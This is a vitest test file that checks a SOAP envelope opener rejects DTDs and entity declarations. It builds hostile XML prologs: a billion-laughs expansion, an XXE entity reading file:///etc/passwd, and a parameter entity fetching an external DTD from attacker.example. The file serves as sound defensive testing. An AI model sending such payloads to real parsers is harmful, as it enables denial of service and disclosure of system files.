/**
 * DTDs: no DOCTYPE, no entity declarations, ever. Billion laughs (internal entity
 * expansion), an external entity (file:///etc/passwd), parameter entities (external DTD
 * fetch), and a DOCTYPE on its own are all refused before parsing.
 */
import { describe, expect, it } from 'vitest';
import { getTestPki, orderEnvelope, secureAs, testOpener } from '../helpers.js';
import { expectRejected } from './attacker.js';

const LAUGHS =
  '<!DOCTYPE soap:Envelope [<!ENTITY lol "lol">' +
  Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
  ).join('') +
  ']>';

const doctypes: Record<string, { prolog: string; ref?: string }> = {
  'billion laughs': { prolog: LAUGHS, ref: '&lol9;' },
  'external entity': {
    prolog: '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ref: '&xxe;',
  },
  'parameter entities': {
    prolog:
      '<!DOCTYPE soap:Envelope [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]>',
  },
  'a DOCTYPE alone': { prolog: '<!DOCTYPE soap:Envelope>' },
};

describe('DTD and entities', () => {
  for (const [name, { prolog, ref }] of Object.entries(doctypes)) {
    it(`rejects ${name} (MalformedMessage)`, async () => {
      const pki = await getTestPki();
      const honest = secureAs(pki, orderEnvelope(), { protectionLevel: 'Sign' });
      const opener = testOpener(pki, { protectionLevel: 'Sign' });
      expect((await opener.open(honest)).body).toContain('widget');

      let hostile = prolog + honest;
      if (ref !== undefined) hostile = hostile.replace('<m:Item>widget', `<m:Item>${ref}`);
      await expectRejected(opener.open(hostile), 'MalformedMessage');
      await expectRejected(opener.open(Buffer.from(hostile, 'utf8')), 'MalformedMessage');
    });
  }

  it('rejects an undeclared entity reference (MalformedMessage)', async () => {
    const pki = await getTestPki();
    const honest = secureAs(pki, orderEnvelope(), { protectionLevel: 'Sign' });
    const opener = testOpener(pki, { protectionLevel: 'Sign' });
    await expectRejected(
      opener.open(honest.replace('<m:Item>widget', '<m:Item>&nbsp;')),
      'MalformedMessage',
    );
  });
});
